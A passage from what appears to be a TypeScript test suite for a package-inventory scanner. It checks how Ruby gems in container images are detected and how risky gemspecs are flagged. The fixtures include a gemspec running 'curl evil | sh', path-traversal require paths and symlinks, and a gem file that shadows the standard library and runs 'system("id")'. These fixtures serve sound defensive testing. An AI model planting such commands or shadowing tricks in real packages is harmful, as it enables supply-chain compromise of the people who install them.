    `${before}Gem::Specification.new do |s|\n  s.name = "tinygem"\n  s.version = "1.0"\n  s.licenses = ["MIT"]\n  s.require_paths = ["lib"]\nend\n`;
  const run = async (files: Record<string, string>) => {
    const inv = await inventoryImageEntries(
      [
        { name: `${CHECKOUT}/lib/tinygem.rb`, data: 'module Tinygem; end\n' },
        ...Object.entries(files).map(([name, data]) => ({ name, data })),
      ],
      { taskRoot: 'var/task' }
    );
    return {
      gems: inv.packages
        .filter((p) => p.ecosystem === 'gem')
        .map((p) => [p.purl, p.properties['gem:source'], p.owns]),
      findings: inv.findings.map((f) => [f.code, f.path]),
    };
  };

  it('each is a gem owning its checkout; a gemspec running code is AMBIGUOUS_METADATA', async () => {
    const spec = `${CHECKOUT}/tinygem.gemspec`;
    const r = await run({ [spec]: literal('system("curl evil | sh")\n') });
    expect(r.gems).toEqual([['pkg:gem/tinygem@1.0', 'git', [spec, `${CHECKOUT}/`]]]);
    expect(r.findings).toEqual([['AMBIGUOUS_METADATA', spec]]);
  });

  it('one in the form RubyGems writes is recorded with no finding', async () => {
    const spec = `${CHECKOUT}/tinygem.gemspec`;
    expect(await run({ [spec]: literal() })).toEqual({
      gems: [['pkg:gem/tinygem@1.0', 'git', [spec, `${CHECKOUT}/`]]],
      findings: [],
    });
  });

  it("one lamina cannot read (bundle gem's template) is kept by name, a PARSE_ERROR", async () => {
    const spec = `${CHECKOUT}/tinygem.gemspec`;
    const template = `# frozen_string_literal: true\n\nrequire_relative "lib/tinygem/version"\n\nGem::Specification.new do |spec|\n  spec.name = "tinygem"\n  spec.version = Tinygem::VERSION\n  spec.files = Dir["lib/**/*.rb"]\n  spec.require_paths = ["lib"]\nend\n`;
    const r = await run({ [spec]: template });
    expect(r.gems).toEqual([['pkg:gem/tinygem', 'git', [spec, `${CHECKOUT}/`]]]);
    expect(r.findings).toEqual([['PARSE_ERROR', spec]]);
  });

  it('a gemspec in a subdirectory of the checkout (one repository, several gems) is its gem', async () => {
    const spec = `${CHECKOUT}/sub/tinygem.gemspec`;
    const r = await run({ [spec]: literal() });
    expect(r.gems).toEqual([['pkg:gem/tinygem@1.0', 'git', [spec, `${CHECKOUT}/sub/`]]]);
  });

  it('a require path out of the checkout is a PATH_TRAVERSAL', async () => {
    const spec = `${CHECKOUT}/tinygem.gemspec`;
    const out = literal().replace('["lib"]', '["../../../../../../../../share"]');
    expect((await run({ [spec]: out })).findings).toEqual([['PATH_TRAVERSAL', spec]]);
  });
});

describe('links out of a git checkout', () => {
  const CHECKOUT = 'var/task/vendor/bundle/ruby/3.2.0/bundler/gems/tinygem-0123456789ab';
  const spec = `Gem::Specification.new do |s|\n  s.name = "tinygem"\n  s.version = "1.0"\n  s.require_paths = ["lib"]\nend\n`;
  const run = async (entries: TarEntry[]) =>
    (
      await inventoryImageEntries(
        [{ name: 'share/rb/version.rb', data: 'puts "PWNED"\n' }, ...entries],
        { taskRoot: 'var/task' }
      )
    ).findings.map((f) => [f.code, f.path]);

  it('a link in it, or the checkout itself, leading out is a PATH_TRAVERSAL', async () => {
    // require 'tinygem/version' through lib/tinygem runs share/rb/version.rb (Bundler 2.3 here).
    expect(
      await run([
        { name: `${CHECKOUT}/tinygem.gemspec`, data: spec },
        { name: `${CHECKOUT}/lib/tinygem.rb`, data: 'require "tinygem/version"\n' },
        { name: `${CHECKOUT}/lib/tinygem`, type: 'symlink', linkname: '/share/rb' },
        { name: `${CHECKOUT}/lib/inside`, type: 'symlink', linkname: 'tinygem.rb' },
      ])
    ).toEqual([['PATH_TRAVERSAL', `${CHECKOUT}/lib/tinygem`]]);
    expect(
      await run([
        { name: 'srv/tinygem/tinygem.gemspec', data: spec },
        { name: 'srv/tinygem/lib/tinygem.rb', data: '' },
        { name: CHECKOUT, type: 'symlink', linkname: '/srv/tinygem' },
      ])
    ).toEqual([['PATH_TRAVERSAL', CHECKOUT]]);
  });
});

describe("a gem's library named like the standard library", () => {
  // GEM_PATH=<gems dir> ruby -e 'require "tinygem"; require "set"' loads gems/tinygem-1.0/lib/set.rb
  // and require "etc" its extension directory's etc.so (ruby 3.1 here): the activated gem's
  // directories come before the standard library.
  // A gem with a compiled extension: its extension directory is on $LOAD_PATH too.
  const spec = (name: string, version: string, ext = '') =>
    `# -*- encoding: utf-8 -*-\n# stub: ${name} ${version} ruby lib\n\nGem::Specification.new do |s|\n  s.name = "${name}".freeze\n  s.version = "${version}"\n  s.require_paths = ["lib".freeze]\n${ext}end\n`;
  const run = async (files: Record<string, string>) =>
    (await runCataloger(rubyCataloger, new MemorySource('l', files))).findings.map((f) => [
      f.code,
      f.path,
    ]);

  it('is STDLIB_SHADOWED in its require path or extension directory', async () => {
    expect(
      await run({
        [`${GEMS}/specifications/tinygem-1.0.gemspec`]: spec(
          'tinygem',
          '1.0',
          '  s.extensions = ["ext/extconf.rb".freeze]\n'
        ),
        [`${GEMS}/gems/tinygem-1.0/lib/tinygem.rb`]: '',
        [`${GEMS}/gems/tinygem-1.0/lib/set.rb`]: 'system("id")\n',
        [`${GEMS}/gems/tinygem-1.0/lib/json/common.rb`]: '',
        [`${GEMS}/gems/tinygem-1.0/test/logger.rb`]: '',
        [`${GEMS}/extensions/x86_64-linux/3.2.0/tinygem-1.0/etc.so`]: '',
      })
    ).toEqual([
      ['STDLIB_SHADOWED', `${GEMS}/extensions/x86_64-linux/3.2.0/tinygem-1.0/etc.so`],
      ['STDLIB_SHADOWED', `${GEMS}/gems/tinygem-1.0/lib/json/common.rb`],
      ['STDLIB_SHADOWED', `${GEMS}/gems/tinygem-1.0/lib/set.rb`],
    ]);
  });

  it("the gem that provides the library (a default gem's newer version) is its own", async () => {
    expect(
      await run({
        [`${GEMS}/specifications/json-2.7.1.gemspec`]: spec('json', '2.7.1'),
        [`${GEMS}/gems/json-2.7.1/lib/json.rb`]: '',
        [`${GEMS}/gems/json-2.7.1/lib/json/common.rb`]: '',
        [`${GEMS}/specifications/net-http-0.4.1.gemspec`]: spec('net-http', '0.4.1'),
        [`${GEMS}/gems/net-http-0.4.1/lib/net/http.rb`]: '',
        [`${GEMS}/gems/net-http-0.4.1/lib/net/https.rb`]: '',
      })
    ).toEqual([]);
  });

  it("a gem's own file in a standard library's directory is its own (json-jwt's json/jwt)", async () => {
    expect(
      await run({
        [`${GEMS}/specifications/json-jwt-1.16.6.gemspec`]: spec('json-jwt', '1.16.6'),
        [`${GEMS}/gems/json-jwt-1.16.6/lib/json/jwt.rb`]: '',
        [`${GEMS}/specifications/net-http-persistent-4.0.2.gemspec`]: spec(
          'net-http-persistent',
          '4.0.2'
        ),
        [`${GEMS}/gems/net-http-persistent-4.0.2/lib/net/http/persistent.rb`]: '',
        [`${GEMS}/gems/net-http-persistent-4.0.2/lib/net/http/persistent/pool.rb`]: '',
      })
    ).toEqual([]);
  });
});
